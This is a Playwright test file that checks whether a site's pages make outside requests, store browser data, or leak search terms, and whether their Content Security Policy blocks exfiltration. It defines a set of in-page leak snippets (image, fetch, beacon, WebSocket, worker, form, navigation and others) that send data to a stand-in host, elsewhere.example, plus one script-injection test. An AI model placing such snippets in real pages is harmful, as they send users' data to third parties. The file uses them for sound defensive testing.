/** Nothing leaves the browser, nothing stays in it, and what tries to leave is stopped or at least seen. */
import { type Browser, type BrowserContext, expect, type Page, test } from '@playwright/test';
import { open, pageKinds } from './page-kinds.ts';
import { addressOf } from './sites.ts';
import { Traffic } from './traffic.ts';

const elsewhere = 'http://elsewhere.example';
/** Words that somebody looks for, and that nobody else should learn. */
const canary = 'stakeholder-kanarienvogel';

/** Ways out of a page. Each is a script that runs in it; the name is in the address that it asks for. */
const leaks = {
  image: (address: string) => {
    new Image().src = address;
  },
  style: (address: string) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background: url("${address}") }`);
    document.adoptedStyleSheets.push(sheet);
  },
  script: (address: string) => {
    document.head.append(Object.assign(document.createElement('script'), { src: address }));
  },
  fetch: (address: string) => {
    void fetch(address, { mode: 'no-cors' }).catch(() => undefined);
  },
  beacon: (address: string) => {
    navigator.sendBeacon(address, 'words');
  },
  'event stream': (address: string) => {
    new EventSource(address);
  },
  socket: (address: string) => {
    new WebSocket(address.replace('http', 'ws'));
  },
  worker: (address: string) => {
    const script = URL.createObjectURL(new Blob([`fetch('${address}', { mode: 'no-cors' })`]));
    new Worker(script);
  },
  frame: (address: string) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: address }));
  },
  form: (address: string) => {
    const form = Object.assign(document.createElement('form'), { action: address, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  prefetch: (address: string) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: address }));
  },
  navigation: (address: string) => {
    location.href = address;
  },
} as const satisfies Record<string, (address: string) => void>;

/** No policy can stop this one: only pages that do not do it. The walk below shows that they do not. */
const unstoppable: readonly string[] = ['navigation'];

test('a walk through every kind of page asks nobody else for anything, stores nothing and says nothing', async ({
  browser,
}) => {
  test.setTimeout(120_000);
  for (const site of new Set(pageKinds.map((kind) => kind.site))) {
    await watched(browser, addressOf(site), {}, async (context, traffic) => {
      const said: string[] = [];
      const workers: string[] = [];
      context.on('console', (message) => said.push(`${message.type()}: ${message.text()}`));
      context.on('weberror', (error) => said.push(`error: ${error.error().message}`));
      context.on('serviceworker', (worker) => workers.push(worker.url()));
      const page = await context.newPage();
      page.on('worker', (worker) => workers.push(worker.url()));
      // What people do on the pages that they work with, acting.spec.ts follows on its way.
      const kinds = pageKinds.filter((kind) => kind.site === site && kind.act === undefined);
      // Pages on which people write have a place for it; they come last, so that the others are seen to have none.
      const places = kinds.filter(({ island }) => island !== undefined);
      for (const kind of [...kinds.filter(({ island }) => island === undefined), ...places]) {
        await open(page, kind);
        const { databases, ...rest } = await stored(page);
        expect([kind.name, { databases: kind.island === undefined ? databases : 0, ...rest }]).toEqual([
          kind.name,
          nothing,
        ]);
        expect([kind.name, await hints(page)]).toEqual([kind.name, []]);
      }
      expect(await context.cookies()).toEqual([]);
      expect(traffic.outside).toEqual([]);
      expect(traffic.inside.length).toBeGreaterThan(kinds.length);
      expect(traffic.inside.filter(({ method, body }) => method !== 'GET' || body !== '')).toEqual([]);
      expect(workers.filter((worker) => !worker.startsWith(addressOf(site)) && !worker.startsWith('blob:'))).toEqual(
        [],
      );
      // The missing page is said to be missing, by the browser.
      expect(said.filter((line) => !line.includes('404 (Not Found)'))).toEqual([]);
    });
  }
});

test('the words of a search stay in the browser', async ({ browser }) => {
  await watched(browser, addressOf('nested'), {}, async (context, traffic) => {
    const page = await context.newPage();
    await page.goto(addressOf('nested'));
    await page.getByRole('searchbox').fill(canary);
    await page.keyboard.press('Enter');
    await expect(page.getByRole('status')).toContainText(canary);
    await page.getByRole('searchbox').fill('stakeholders');
    await page.locator('.answers a').first().click();
    await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toBeVisible();
    expect(traffic.outside).toEqual([]);
    const told = traffic.inside.filter((one) =>
      /kanarienvogel|stakeholder/i.test(one.address + one.headers + one.body),
    );
    expect(told).toEqual([]);
    expect(await stored(page)).toEqual(nothing);
  });
});

test.describe('the counter sees a leak, once the policy is out of the way:', () => {
  for (const [name, leak] of Object.entries(leaks)) {
    test(name, async ({ browser }) => {
      await watched(browser, addressOf('starter'), { bypassCSP: true }, async (context, traffic) => {
        const page = await context.newPage();
        await page.goto(addressOf('starter'));
        expect(traffic.outside).toEqual([]);
        await page.evaluate(leak, `${elsewhere}/${encodeURIComponent(name)}`);
        await expect.poll(() => traffic.outside.map(({ address }) => address).join()).toContain('elsewhere.example');
      });
    });
  }
});

test.describe('the policy refuses', () => {
  for (const [name, leak] of Object.entries(leaks).filter(([one]) => !unstoppable.includes(one))) {
    test(name, async ({ browser }) => {
      await watched(browser, addressOf('starter'), {}, async (context, traffic) => {
        const page = await context.newPage();
        await page.goto(addressOf('starter'));
        const refused = page.evaluate(
          () =>
            new Promise<string>((resolve) =>
              document.addEventListener('securitypolicyviolation', (event) => resolve(event.disposition), {
                once: true,
              }),
            ),
        );
        await page.evaluate(leak, `${elsewhere}/${encodeURIComponent(name)}`);
        expect(await refused).toBe('enforce');
        // What was not refused would have been on its way before this answer came back.
        await page.evaluate(() => fetch('favicon.svg').then((answer) => answer.text()));
        expect(traffic.outside).toEqual([]);
      });
    });
  }

  test('a script that somebody writes into the page', async ({ page }) => {
    await page.goto(addressOf('starter'));
    const outcome = await page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="/no-picture.png" onerror="document.title = \'ran\'">');
      const script = document.createElement('script');
      script.textContent = "document.title = 'ran'";
      document.body.append(script);
      return document.title;
    });
    expect(outcome).toBe('Alderby');
    await expect(page).toHaveTitle('Alderby');
  });
});

test('no page carries an exception in its policy', async ({ page }) => {
  for (const kind of pageKinds) {
    const response = await page.request.get(addressOf(kind.site) + kind.path.replace(/#.*/, ''));
    const policies = [
      response.headers()['content-security-policy'],
      /<meta http-equiv="content-security-policy" content="([^"]*)"/.exec(await response.text())?.[1],
    ];
    for (const policy of policies) {
      expect([kind.name, policy]).toEqual([kind.name, expect.stringContaining("form-action 'none'")]);
      expect([kind.name, policy]).not.toEqual([kind.name, expect.stringMatching(/unsafe|https?:|\*/)]);
    }
  }
});

/** What a site could keep in a browser. */
interface Stored {
  readonly local: number;
  readonly session: number;
  readonly databases: number;
  /** Files kept for use without a connection that are none of the site's own, or that carry words after a `?`. */
  readonly foreign: number;
}

const nothing: Stored = { local: 0, session: 0, databases: 0, foreign: 0 };

async function stored(page: Page): Promise<Stored> {
  return page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    databases: (await indexedDB.databases()).length,
    foreign: (await Promise.all((await caches.keys()).map(async (name) => (await caches.open(name)).keys())))
      .flat()
      .filter(({ url }) => !url.startsWith(`${location.origin}/`) || new URL(url).search !== '').length,
  }));
}

/**
 * What could open a connection unseen by the counter: browsers look up or greet a host ahead of time for some links. And what has
 * no business on a page that sends nothing.
 */
async function hints(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const relations = ['alternate', 'canonical', 'icon', 'modulepreload', 'preload', 'stylesheet'];
    const links = [...document.querySelectorAll('link')].filter(
      ({ rel, href }) => !relations.includes(rel) || !href.startsWith(location.origin),
    );
    // Data is never run.
    const known = ['module', 'application/json', 'application/ld+json'];
    const scripts = [...document.scripts].filter(({ type }) => !known.includes(type));
    return [...links, ...scripts, ...document.querySelectorAll('[ping], form, iframe, object, embed')].map(
      ({ outerHTML }) => outerHTML,
    );
  });
}

/** A browser of its own whose every request is counted. */
async function watched(
  browser: Browser,
  site: string,
  options: { readonly bypassCSP?: boolean },
  use: (context: BrowserContext, traffic: Traffic) => Promise<void>,
): Promise<void> {
  const traffic = await Traffic.start(site);
  const context = await browser.newContext({ ...options, proxy: traffic.proxy });
  try {
    await use(context, traffic);
  } finally {
    await context.close();
    await traffic.stop();
  }
}
